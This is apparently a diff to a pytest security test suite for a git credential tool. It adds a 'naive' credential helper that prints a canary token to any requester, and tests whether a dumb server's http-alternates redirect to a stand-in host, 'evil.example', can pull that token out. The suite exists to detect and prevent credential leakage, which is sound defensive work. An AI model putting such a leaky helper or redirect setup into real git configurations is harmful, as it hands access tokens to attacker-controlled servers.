@@ -46,6 +46,17 @@ def trusting(rig: Rig, forged: Certificates) -> Rig:
     return replace(rig, env=platform)
 
 
+def naive(rig: Rig) -> Rig:
+    """The same machine with a helper that gives the token to whoever asks, and without our settings."""
+    helper = {
+        "GIT_CONFIG_COUNT": "1",
+        "GIT_CONFIG_KEY_0": "credential.helper",
+        "GIT_CONFIG_VALUE_0": f"!printf 'username=x-access-token\\npassword={CANARY}\\n' #",
+    }
+    plain = {key: said for key, said in rig.env.items() if not key.startswith("GIT_CONFIG")}
+    return replace(rig, env={**plain, **helper})
+
+
 @pytest.fixture
 def between(trusting: Rig, forged: Certificates) -> Iterator[HostileServer]:
     with HostileServer(None, inside=forged) as proxy:
@@ -83,11 +94,7 @@ def test_a_plant_of_trust_is_live(
 ) -> None:
     """A helper that looks at host and path alone would have given it."""
     url = plant(trusting, forged, name)
-    helper = f"!printf 'username=x-access-token\\npassword={CANARY}\\n' #"
-    naive = replace(
-        trusting, env={key: said for key, said in trusting.env.items() if "GIT_CONFIG" not in key}
-    )
-    naive.git("-C", "clone", "-c", f"credential.helper={helper}", "ls-remote", url)
+    naive(trusting).git("-C", "clone", "ls-remote", url)
     assert holds(between.seen) != []
 
 
@@ -108,3 +115,24 @@ def test_settings_that_do_not_read_give_no_token(rig: Rig) -> None:
     inside = replace(rig, home=rig.home / "clone").run(asked, request)
     assert inside.stdout == ""
     assert "config" in inside.stderr
+
+
+@pytest.fixture
+def apart(rig: Rig) -> Rig:
+    """The opened repository's server knows no protocol of git's, and names another place for its objects."""
+    rig.own.behaviour, rig.own.target = "alternates", f"https://evil.example:{rig.evil.port}"
+    rig.git("init", "-q", "clone")
+    rig.git("-C", "clone", "config", "http.followRedirects", "true")
+    return rig
+
+
+def test_the_token_does_not_go_to_where_objects_lie_elsewhere(apart: Rig) -> None:
+    """git sends it to every place of a dumb server's `http-alternates`, once a setting lets it go there."""
+    apart.git("-C", "clone", "fetch", apart.place(OWN), "main")
+    assert any("http-alternates" in seen.path for seen in holds(apart.own.seen))
+    assert holds(apart.evil.seen) == []
+
+
+def test_alternates_of_a_server_are_live(apart: Rig) -> None:
+    naive(apart).git("-C", "clone", "fetch", apart.place(OWN), "main")
+    assert holds(apart.evil.seen) != []
